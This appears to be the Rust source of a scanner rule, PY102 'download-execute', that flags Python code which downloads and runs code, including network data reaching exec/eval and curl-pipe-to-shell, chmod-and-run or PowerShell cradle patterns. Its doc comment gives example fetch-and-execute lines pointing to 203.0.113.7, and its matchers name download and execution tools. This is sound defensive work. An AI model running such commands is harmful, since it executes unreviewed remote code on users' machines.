//! PY102 `download-execute`: downloaded code or files are run.
//!
//! **What it detects.** (1) Data received from the network (urllib,
//! requests, httpx, a socket) flowing into `exec`/`eval`/`compile` or a
//! process; (2) a shell command that fetches and runs in one go
//! (`curl … | sh`, `wget -O x && chmod +x x && ./x`, PowerShell
//! `DownloadString`/`IEX` cradles); (3) a file downloaded
//! (`urlretrieve`, `requests` response written to disk), made executable
//! and started in the same file.
//!
//! **Why it matters.** `pyscrapy` downloaded and ran a trojan from its
//! `setup.py` during `pip install`; `python3-dateutil` fetched and executed
//! its stage two at install time. Remote code changes after review
//! (CWE-494, CWE-829).
//!
//! **Example.**
//! ```python
//! exec(urllib.request.urlopen("http://203.0.113.7/x.py").read())
//! os.system("curl -s http://203.0.113.7/i.sh | sh")
//! ```
//!
//! **False positives.** Tools that install helper binaries (browser
//! drivers) download, chmod and run them as their documented job; without
//! a traced flow in library code this is medium, not high.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{Call, Caps, Facts, Labels, is_net_call, is_proc_sink_name};
use super::{at_call, by_role, command_of, shell_line, urls_in};

/// Rule name.
pub const NAME: &str = "download-execute";

fn is_exec_sink(c: &Call) -> bool {
    matches!(
        c.target.as_str(),
        "exec"
            | "eval"
            | "execfile"
            | "compile"
            | "types.FunctionType"
            | "marshal.loads"
            | "runpy.run_path"
            | "pickle.loads"
            | "cPickle.loads"
    ) || is_proc_sink_name(&c.target)
        || (c.target.starts_with("local:") && c.caps.has(Caps::CODE))
}

/// A process call whose commands are all tools that read their arguments
/// as data (`["unzip", path]`, `["git", "ls-remote", url]`,
/// `powershell -Command "Expand-Archive …"`): fetched data reaching them is
/// unpacked or queried, not executed.
fn hands_to_a_tool(c: &Call) -> bool {
    if !is_proc_sink_name(&c.target) || c.strings.is_empty() {
        return false;
    }
    let sh = crate::shell::analyse(&shell_line(c));
    !sh.runs.is_empty()
        && sh.downloads.is_empty()
        && sh.runs.iter().all(|r| {
            let name = crate::shell::command_name(r);
            matches!(
                name.as_str(),
                "unzip"
                    | "tar"
                    | "gunzip"
                    | "7z"
                    | "7za"
                    | "xz"
                    | "bunzip2"
                    | "git"
                    | "hg"
                    | "svn"
                    | "cp"
                    | "mv"
                    | "ls"
                    | "cat"
                    | "file"
                    | "sha256sum"
                    | "shasum"
                    | "md5sum"
                    | "gpg"
                    | "openssl"
                    | "hdiutil"
                    | "ditto"
                    | "expand-archive"
            )
        })
}

/// A process call that hands its data to a shell or an interpreter:
/// `os.system`/`os.popen`, `shell=True`, or an argument vector whose
/// program is `cmd` or a shell or interpreter ([`crate::shell::is_interpreter`]:
/// `["bash", "-s"]`, `["python", "-c"]`).
fn shell_like(c: &Call) -> bool {
    if c.target.starts_with("os.system") || c.target.starts_with("os.popen") {
        return true;
    }
    if c.kwarg("shell").is_some_and(|v| v == "True") {
        return true;
    }
    let Some(first) = c.strings.first() else {
        return false;
    };
    let name = crate::shell::command_name(first.split_whitespace().next().unwrap_or(""));
    name == "cmd" || crate::shell::is_interpreter(&name)
}

/// A shell command line that downloads and runs in one go.
#[must_use]
pub fn is_fetch_and_run(cmd: &str) -> bool {
    // `python -c "exec(urlopen(...).read())"` handed to a shell.
    if (cmd.contains("urlopen") || cmd.contains("requests.get") || cmd.contains("urlretrieve"))
        && (cmd.contains("exec(") || cmd.contains("eval(") || cmd.contains("os.system("))
    {
        return true;
    }
    let has_fetch = [
        "curl ",
        "wget ",
        "invoke-webrequest",
        "downloadstring",
        "downloadfile",
        "iwr ",
        "certutil -urlcache",
        "bitsadmin /transfer",
    ]
    .iter()
    .any(|w| cmd.contains(w));
    if !has_fetch {
        return false;
    }
    let piped = cmd.split('|').skip(1).any(|seg| {
        let seg = seg.trim_start();
        let seg = seg.strip_prefix("sudo ").unwrap_or(seg);
        [
            "sh",
            "bash",
            "zsh",
            "dash",
            "python",
            "python3",
            "perl",
            "ruby",
            "iex",
            "powershell",
            "node",
        ]
        .iter()
        .any(|s| {
            seg == *s
                || seg.starts_with(&format!("{s} "))
                || seg.starts_with(&format!("{s}\n"))
                || seg.starts_with(&format!("{s}-"))
        })
    });
    let chmod_run =
        (cmd.contains("chmod +x") || cmd.contains("chmod 7") || cmd.contains("chmod 5"))
            && (cmd.contains("./")
                || cmd.contains("&& /")
                || cmd.contains("; /")
                || cmd.contains("nohup"));
    let cradle = (cmd.contains("downloadstring")
        || cmd.contains("downloadfile")
        || cmd.contains("invoke-webrequest")
        || cmd.contains("iwr "))
        && (cmd.contains("iex")
            || cmd.contains("invoke-expression")
            || cmd.contains("start-process"));
    piped || chmod_run || cradle
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    let role = f.file.role;
    let mut out = Vec::new();
    let serves = f.calls.iter().any(|c| {
        matches!(c.method.as_str(), "accept" | "listen" | "bind") && c.recv.has(Labels::SOCKET)
    });
    // (1) fetched data into execution
    for c in f
        .calls
        .iter()
        .filter(|c| is_exec_sink(c) && c.arg_labels.has(Labels::FETCHED) && !hands_to_a_tool(c))
    {
        let urls = urls_in(
            f.calls
                .iter()
                .filter(|x| x.result.has(Labels::FETCHED))
                .flat_map(|x| x.strings.iter()),
        );
        // A server that evaluates what its clients send is an RPC endpoint
        // by design; fetching code from somewhere is what droppers do.
        let deserialise = matches!(c.target.as_str(), "pickle.loads" | "cPickle.loads");
        let (sev, conf) = if serves && urls.is_empty() {
            (Severity::Medium, Confidence::Low)
        } else if deserialise && !role.runs_unasked() {
            // Clients unpickling their own server's answers: unsafe, but a
            // vulnerability pattern rather than a dropper.
            (Severity::Medium, Confidence::Medium)
        } else if !role.runs_unasked() && is_proc_sink_name(&c.target) && !shell_like(c) {
            // An argument vector of a program we cannot name (`run(argv)`):
            // fetched data may be a URL or a path handed to a tool, not
            // code. Shells, interpreters and `os.system` stay high.
            (Severity::Medium, Confidence::Medium)
        } else {
            (
                by_role(role, Severity::Critical, Severity::High),
                Confidence::High,
            )
        };
        let mut fd = at_call(
            f,
            "PY102",
            NAME,
            sev,
            conf,
            format!(
                "executes data downloaded from the network with `{}`",
                c.target
            ),
            c,
        )
        .evidence("flow: network response → execution");
        for u in urls {
            fd = fd.evidence(format!("downloads from: {u}"));
        }
        out.push(fd);
        if out.len() >= 3 {
            return out;
        }
    }
    // (2) fetch-and-run shell one-liners
    for c in f
        .calls
        .iter()
        .filter(|c| c.caps.has(Caps::PROC) || is_proc_sink_name(&c.target))
    {
        let cmd = command_of(c);
        if is_fetch_and_run(&cmd) || crate::shell::analyse(&shell_line(c)).fetches_and_runs() {
            let mut fd = at_call(
                f,
                "PY102",
                NAME,
                by_role(role, Severity::Critical, Severity::High),
                Confidence::High,
                "runs a shell command that downloads and executes code",
                c,
            )
            .evidence(format!(
                "command: {}",
                cmd.chars().take(160).collect::<String>()
            ));
            for u in urls_in(&c.strings) {
                fd = fd.evidence(format!("downloads from: {u}"));
            }
            out.push(fd);
        }
    }
    if !out.is_empty() {
        return out;
    }
    // (3) download to a file, make it executable, run it
    let downloads: Vec<&Call> = f
        .calls
        .iter()
        .filter(|c| {
            matches!(
                c.target.as_str(),
                "urllib.request.urlretrieve"
                    | "urllib.urlretrieve"
                    | "urlretrieve"
                    | "wget.download"
            ) || (matches!(c.method.as_str(), "write" | "write_bytes" | "copyfileobj")
                && c.arg_labels.has(Labels::FETCHED))
                || (is_proc_sink_name(&c.target)
                    && (is_shell_download(&command_of(c))
                        || crate::shell::analyse(&shell_line(c))
                            .dests()
                            .next()
                            .is_some()))
        })
        .collect();
    if downloads.is_empty() {
        return out;
    }
    let chmod = f.calls.iter().find(|c| {
        (c.target == "os.chmod"
            && (c.text.contains("S_IX")
                || c.text.contains("0o7")
                || c.text.contains("0o5")
                || c.text.contains("0755")
                || c.text.contains("0777")
                || c.text.contains("493")
                || c.text.contains("511")))
            || (is_proc_sink_name(&c.target) && command_of(c).contains("chmod"))
    });
    let runs: Vec<&Call> = f
        .calls
        .iter()
        .filter(|c| is_proc_sink_name(&c.target) || c.target == "os.startfile")
        .filter(|c| !hands_to_a_tool(c))
        .collect();
    // A shared variable links two calls in the same function (or at
    // module level); a name like `url` reused 1,500 lines away does not.
    let shares = |a: &Call, b: &Call| {
        (a.scope == b.scope || a.scope.is_none() || b.scope.is_none())
            && a.idents.iter().any(|i| b.idents.contains(i))
            || a.strings
                .iter()
                .any(|s| s.len() > 3 && !s.starts_with("http") && b.strings.contains(s))
    };
    // Where the downloaded bytes land: the download's own arguments, and
    // the files opened for writing in a file that writes fetched data
    // (`with open('x.exe', 'wb') as f: f.write(r.content)`).
    let writes_fetched = downloads.iter().any(|d| d.arg_labels.has(Labels::FETCHED));
    let mut dests: Vec<String> = downloads
        .iter()
        .flat_map(|d| d.strings.iter())
        .filter(|s| !s.starts_with("http"))
        .map(|s| file_name_of(s))
        .collect();
    if writes_fetched {
        dests.extend(
            f.calls
                .iter()
                .filter(|c| {
                    matches!(c.target.as_str(), "open" | "io.open" | "codecs.open")
                        && c.strings.iter().skip(1).any(|m| m.contains('w'))
                })
                .filter_map(|c| c.strings.first())
                .map(|s| file_name_of(s)),
        );
    }
    // A URL's file name (`…/server.exe`) run under the same name.
    dests.extend(
        urls_in(downloads.iter().flat_map(|d| d.strings.iter()))
            .iter()
            .map(|u| file_name_of(u.split(['?', '#']).next().unwrap_or(u))),
    );
    dests.retain(|d| d.len() > 3 && d.contains('.'));
    // Paths shell downloads save to, as written (`/tmp/{}` from an
    // f-string links `wget -O /tmp/{file}` to a later `/tmp/{file}`).
    let shell_dests: Vec<String> = downloads
        .iter()
        .filter(|d| is_proc_sink_name(&d.target))
        .flat_map(|d| {
            crate::shell::analyse(&shell_line(d))
                .dests()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    let names_dest = |r: &Call| {
        let cmd = r.cmdline().to_ascii_lowercase().replace('\\', "/");
        dests.iter().any(|d| cmd.contains(&d.to_ascii_lowercase()))
            || (!shell_dests.is_empty() && {
                let sh = crate::shell::analyse(&shell_line(r));
                shell_dests.iter().any(|d| sh.runs_path(d))
            })
    };
    // The files opened for writing where fetched data is written: a run
    // naming the same variable starts what was downloaded.
    let write_opens: Vec<&Call> = if writes_fetched {
        f.calls
            .iter()
            .filter(|c| {
                matches!(c.target.as_str(), "open" | "io.open" | "codecs.open")
                    && (c.strings.iter().any(|m| m.contains('w'))
                        || c.kwarg("mode").is_some_and(|m| m.contains('w')))
            })
            .collect()
    } else {
        Vec::new()
    };
    let is_download = |r: &Call| downloads.iter().any(|d| d.line == r.line && d.col == r.col);
    // `os.startfile(x)`, `start x`, `Start-Process "x"`: a command whose
    // only job is to start a file, in a file that downloads one.
    let starts_a_file = |r: &Call| {
        let cmd = command_of(r);
        r.target == "os.startfile"
            || cmd.contains("start-process")
            || cmd.trim_start().starts_with("start ")
            || cmd.contains("cmd /c start ")
            || cmd.contains("cmd.exe /c start ")
    };
    let traced = |r: &Call| {
        !is_download(r)
            && (downloads.iter().any(|d| shares(d, r))
                || write_opens
                    .iter()
                    .any(|o| o.idents.iter().any(|i| r.idents.contains(i)))
                || names_dest(r))
    };
    let linked = runs
        .iter()
        .find(|r| traced(r))
        .or_else(|| runs.iter().find(|r| !is_download(r) && starts_a_file(r)));
    let Some(run) = linked.or(runs.iter().find(|r| !is_download(r))) else {
        return out;
    };
    // Not traced, but the file downloads a Windows executable by name and
    // starts a process: the dropper's two halves in one file.
    let exe_url = f.strings.iter().any(|s| {
        let v = s.value.to_ascii_lowercase();
        (v.starts_with("http://") || v.starts_with("https://"))
            && [".exe", ".scr", ".bat", ".msi", ".ps1", ".vbs", ".hta"]
                .iter()
                .any(|e| v.split(['?', '#']).next().unwrap_or("").ends_with(e))
    });
    if chmod.is_none() && linked.is_none() && !exe_url {
        return out;
    }
    let conf = if linked.is_some() {
        Confidence::High
    } else {
        Confidence::Medium
    };
    // Windows needs no chmod: a linked `.exe`/`.bat`/… run is the whole act.
    let names_exe = f.strings.iter().any(|s| {
        let v = s.value.trim().to_ascii_lowercase();
        v.len() < 300 && is_executable_name(&v) && !v.contains(' ')
    });
    let windows_exe = linked.is_some_and(|r| is_executable_name(&r.cmdline()) || names_exe);
    let sev = if role.runs_unasked() {
        Severity::Critical
    } else if linked.is_some() && (chmod.is_some() || windows_exe) {
        Severity::High
    } else {
        Severity::Medium
    };
    let mut fd = at_call(
        f,
        "PY102",
        NAME,
        sev,
        conf,
        "downloads a file and runs it",
        run,
    )
    .evidence(format!("download: line {}", downloads[0].line));
    if let Some(c) = chmod {
        fd = fd.evidence(format!("made executable: line {}", c.line));
    }
    for u in urls_in(downloads.iter().flat_map(|d| d.strings.iter())) {
        fd = fd.evidence(format!("downloads from: {u}"));
    }
    let _ = is_net_call;
    out.push(fd);
    out
}

/// The last path component of a path or URL (`C://x//server.exe` →
/// `server.exe`).
fn file_name_of(s: &str) -> String {
    s.trim()
        .rsplit(['/', '\\'])
        .find(|p| !p.is_empty())
        .unwrap_or("")
        .to_owned()
}

/// A command line that starts a file Windows runs directly.
fn is_executable_name(cmd: &str) -> bool {
    let l = cmd.to_ascii_lowercase();
    [
        ".exe", ".bat", ".cmd", ".scr", ".vbs", ".ps1", ".msi", ".hta", ".pif",
    ]
    .iter()
    .any(|e| l.contains(e))
}

/// A shell command that saves a download to a file (`curl URL -o x.exe`,
/// `wget -O`, `Invoke-WebRequest -OutFile`, `certutil -urlcache`,
/// `bitsadmin /transfer`).
fn is_shell_download(cmd: &str) -> bool {
    let has_url = cmd.contains("http://") || cmd.contains("https://");
    has_url
        && ((cmd.contains("curl") && (cmd.contains(" -o") || cmd.contains(" --output")))
            || (cmd.contains("wget")
                && (cmd.contains(" -o ") || cmd.contains(" -o") || cmd.contains(" -p ")))
            || cmd.contains("invoke-webrequest")
            || cmd.contains("iwr ")
            || cmd.contains("downloadfile")
            || cmd.contains("certutil")
            || cmd.contains("bitsadmin"))
}
